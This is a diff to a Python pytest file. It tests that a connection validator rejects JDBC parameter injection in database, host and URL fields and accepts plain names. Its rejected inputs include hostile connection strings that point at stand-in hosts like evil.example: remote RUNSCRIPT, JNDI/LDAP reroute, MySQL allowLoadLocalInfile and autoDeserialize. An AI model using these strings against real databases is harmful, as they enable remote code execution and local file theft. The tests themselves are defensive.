@@ -154,7 +154,13 @@ def test_sent(kind: str, coordinates: dict[str, Any], connection: dict[str, Any]
         pytest.param("host", "u:SECRET@db", id="a host with a login"),
         pytest.param("database", "shop?socketFactory=org.evil.Factory", id="a database"),
         pytest.param("database", "shop;INIT=RUNSCRIPT", id="a database with statements"),
+        pytest.param("database", "shop:clientRerouteServerListJNDIName=ldap://evil.example/x", id="properties of DB2"),
+        pytest.param("database", "shop,LOGMECH=JWT", id="parameters of Teradata"),
+        pytest.param("database", "shop%3FsocketFactory%3Dorg.evil.Factory", id="parameters in code"),
         pytest.param("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", id="a URL"),
+        pytest.param("url", "jdbc:mysql://(host=evil.example,allowLoadLocalInfile=true)/shop", id="a host of MySQL"),
+        pytest.param("url", "jdbc:mysql://address=(host=evil.example)(autoDeserialize=true)/shop", id="an address"),
+        pytest.param("url", "http://evil.example/x", id="no URL of JDBC"),
     ],
 )
 def test_a_contract_cannot_put_parameters_into_a_url(field: str, text: str) -> None:
@@ -162,6 +168,21 @@ def test_a_contract_cannot_put_parameters_into_a_url(field: str, text: str) -> N
     assert isinstance(found, Unbound)
     assert f"{field} of the server prod" in found.reason
     assert "SECRET" not in found.reason
+
+
+@pytest.mark.parametrize(
+    ("kind", "coordinates"),
+    [
+        pytest.param("jdbc", {"url": "jdbc:postgresql://db-1.example:5432/shop"}, id="a URL"),
+        pytest.param("jdbc", {"url": "jdbc:postgresql://a.example:1,[::1]:2/shop"}, id="a URL of two hosts"),
+        pytest.param("jdbc", {"url": "jdbc:duckdb:/data/~shop/o_1.duckdb"}, id="a URL of a file"),
+        pytest.param("duckdb", {"database": "data/größe-1.duckdb"}, id="a file"),
+        pytest.param("oracle", {"host": "db", "serviceName": "ORCL$1.example"}, id="a service"),
+        pytest.param("postgres", {**SHOP, "database": "Shop_2-x"}, id="a database"),
+    ],
+)
+def test_plain_names_are_taken(kind: str, coordinates: dict[str, Any]) -> None:
+    assert isinstance(reach(kind, coordinates, {}), Binding)
 
 
 def test_a_custom_server_is_no_way_around() -> None:
